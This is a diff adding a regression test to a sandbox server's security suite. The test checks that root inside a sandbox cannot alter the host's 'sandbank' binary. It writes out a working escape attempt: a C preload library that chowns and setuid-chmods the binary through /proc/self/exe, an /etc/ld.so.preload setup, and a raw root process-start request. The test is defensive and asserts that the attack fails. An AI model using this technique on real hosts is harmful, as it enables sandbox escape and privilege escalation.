@@ -4,11 +4,13 @@
 // docs/RELIABILITY.md lists them with their outcome and how to run one.
 import { after, before, describe, test } from 'node:test'
 import assert from 'node:assert/strict'
-import { existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs'
+import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs'
 import { spawnSync } from 'node:child_process'
 import { randomBytes } from 'node:crypto'
 import { Sandbox, CommandExitError, NotEnoughSpaceError, NotFoundError } from 'novita-sandbox'
 import { eventually, guestProcesses, sandbankCgroups, serverCgroupName, startServer, stopAndCheck } from './helpers.mjs'
+import { sandbankBinary } from '../lib/server.mjs'
+import { Sandbox as Sandbank } from 'sandbank'
 
 const DISK_LIMIT_MB = 256
 
@@ -75,7 +77,6 @@ function loopDevicesOf(path) {
 
 const marker = (what) => `sandbank-attack-${what}-${randomBytes(6).toString('hex')}`
 
-/** Raw envd request to the sandbox through the server (as the SDKs send it). */
 /** A raw envd request to `sbx`, with its access token (novita-sandbox keeps it on the instance). */
 const envd = (sbx, path, init = {}) =>
   fetch(server.url + path, {
@@ -577,5 +578,92 @@ print(n)
     const worst = Math.max(...seen)
     t.diagnostic(`${seen.length} metrics during ${swaps} swaps; largest diskUsed ${worst} bytes`)
     assert.ok(worst < BIG / 2, `metrics counted the host directory: diskUsed ${worst} (the host file is ${BIG} bytes)`)
+  })
+})
+
+describe('host binary', () => {
+  // Issue 21, finding 1: envd (PID 1) and what it forks before an exec are the `sandbank` binary.
+  // Root inside replaces a program envd runs with a `#!/proc/self/exe` script and puts a library in
+  // /etc/ld.so.preload: the kernel then starts that binary inside the sandbox with the library
+  // loaded, and it changes the binary's mode and owner through /proc/self/exe (with
+  // `--no-userns`, root inside holds CAP_FOWNER and CAP_CHOWN over the host's files).
+  const evil = `
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static const char *result(int rc) { return rc == 0 ? "ok" : strerror(errno); }
+__attribute__((constructor)) static void evil(void) {
+  const char *out = getenv("SANDBANK_ATTACK_OUT");
+  if (!out) return;
+  FILE *f = fopen(out, "w");
+  char exe[4096] = {0};
+  readlink("/proc/self/exe", exe, sizeof exe - 1);
+  int fd = open("/proc/self/exe", O_PATH);
+  char path[64];
+  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+  struct stat st;
+  fprintf(f, "exe=%s\\nstat=%s\\n", exe, result(stat(path, &st)));
+  // chown first: it would clear the setuid bit that chmod sets.
+  fprintf(f, "chown=%s\\n", result(chown(path, st.st_uid, st.st_gid)));
+  fprintf(f, "chmod=%s\\n", result(chmod(path, (st.st_mode & 07777) | 04000)));
+  fprintf(f, "write=%s\\n", result(open(path, O_WRONLY) < 0 ? -1 : 0));
+  fclose(f);
+  _exit(0);
+}
+`
+
+  async function attack(t, sbx, srv, rootIsHostRoot) {
+    // The server says which mode it is in (sandbank's SDK reads it).
+    assert.equal((await Sandbank.getInfo(sbx.sandboxId, srv.novita())).rootIsHostRoot, rootIsHostRoot ? true : undefined)
+    const bin = sandbankBinary()
+    const before = statSync(bin)
+    // On a binary without the fix the attack succeeds: put the mode back whatever happens.
+    t.after(() => chmodSync(bin, before.mode & 0o7777))
+    await sbx.files.write('/tmp/evil.c', evil)
+    const build = await root(sbx, 'gcc -shared -fPIC -o /tmp/evil.so /tmp/evil.c && printf "#!/proc/self/exe\\n" > /tmp/trigger && chmod 755 /tmp/trigger && echo /tmp/evil.so > /etc/ld.so.preload')
+    assert.equal(build.exitCode, 0, build.out)
+    // envd execs the script itself (the SDKs' commands go through bash, which would be the one
+    // resolving /proc/self/exe).
+    const body = JSON.stringify({ process: { cmd: '/tmp/trigger', args: [], envs: { SANDBANK_ATTACK_OUT: '/tmp/evil.out' } } })
+    const frame = Buffer.alloc(5)
+    frame.writeUInt32BE(Buffer.byteLength(body), 1)
+    const res = await fetch(srv.url + '/process.Process/Start', {
+      method: 'POST',
+      headers: {
+        'Novita-Sandbox-Id': sbx.sandboxId,
+        'Novita-Sandbox-Port': '49983',
+        'X-Access-Token': sbx.envdAccessToken ?? '',
+        authorization: `Basic ${Buffer.from('root:').toString('base64')}`,
+        'content-type': 'application/connect+json',
+        'connect-protocol-version': '1',
+      },
+      body: Buffer.concat([frame, Buffer.from(body)]),
+    })
+    await res.arrayBuffer() // to the process's end
+    const report = await sbx.files.read('/tmp/evil.out')
+    t.diagnostic(report.replaceAll('\n', '; '))
+    assert.match(report, /^stat=ok$/m, 'the library ran in the process started through /proc/self/exe')
+    const after = statSync(bin)
+    assert.deepEqual([after.mode.toString(8), after.uid, after.gid], [before.mode.toString(8), before.uid, before.gid], `the host's ${bin} was changed`)
+    assert.doesNotMatch(report, /^(chmod|chown|write)=ok$/m)
+    return report
+  }
+
+  test('host binary: a #!/proc/self/exe program with a preloaded library cannot change it (no user namespace)', async (t) => {
+    const plain = await startServer({ extraArgs: ['--no-userns'] })
+    t.after(() => stopAndCheck(plain))
+    const sbx = await Sandbox.create({ ...plain.novita(), timeoutMs: 120_000 })
+    t.after(() => sbx.kill().catch(() => {}))
+    const report = await attack(t, sbx, plain, true)
+    assert.match(report, /^chmod=Read-only file system$/m)
+  })
+
+  test('host binary: the same attack in a user namespace', async (t) => {
+    await attack(t, await victim(t), server, false)
   })
 })
